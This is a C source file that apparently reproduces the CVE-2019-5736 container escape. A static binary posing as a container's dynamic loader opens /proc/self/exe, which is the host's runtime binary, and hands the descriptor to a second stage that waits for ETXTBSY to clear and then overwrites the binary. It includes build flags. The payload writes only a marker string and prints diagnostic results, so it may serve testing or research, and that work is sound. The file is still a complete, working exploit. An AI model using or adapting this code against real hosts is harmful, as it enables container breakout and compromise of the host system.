/*
 * What CVE-2019-5736 does, in a container: named as the dynamic loader, it is
 * what the kernel starts when a program of the host's is executed in here. Then
 * /proc/self/exe is that program. It is opened, which needs no right, and the
 * descriptor passed on to a second stage, which waits until no process executes
 * the program, and writes to it.
 *
 * No C library: a loader is started before there is one.
 *
 *     gcc -static -nostdlib -fno-stack-protector -o loader attack-exe.c
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <time.h>

static long
call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

static void
say(const char *text)
{
	long length = 0;

	while (text[length] != '\0')
		length++;
	call(SYS_write, 1, (long)text, length);
}

/* Stage two: the descriptor is 9, passed on by stage one. */
static void
overwrite(void)
{
	const struct timespec moment = { .tv_nsec = 10000000 };
	long fd = -26;

	for (int i = 0; i < 50 && fd == -26; i++) { /* ETXTBSY */
		fd = call(SYS_open, (long)"/proc/self/fd/9", O_WRONLY, 0);
		if (fd == -26)
			call(SYS_nanosleep, (long)&moment, 0, 0);
	}
	if (fd >= 0 && call(SYS_write, fd, (long)"owned", 5) == 5)
		say("overwritten\n");
	else
		say(fd == -30   ? "EROFS\n"
		    : fd == -26 ? "ETXTBSY\n"
		    : fd == -13 ? "EACCES\n"
				: "refused\n");
}

void
start(void)
{
	static const char *argv[] = { "/loader", 0 }, *envp[] = { 0 };
	if (call(SYS_fcntl, 9, F_GETFD, 0) >= 0) {
		overwrite();
		call(SYS_exit, 0, 0, 0);
	}
	long exe = call(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
	if (exe < 0 || call(SYS_dup2, exe, 9, 0) < 0)
		say("no descriptor\n");
	else
		call(SYS_execve, (long)"/loader", (long)argv, (long)envp);
	call(SYS_exit, 1, 0, 0);
}

__asm__(".globl _start\n_start: and $-16, %rsp\ncall start\n");
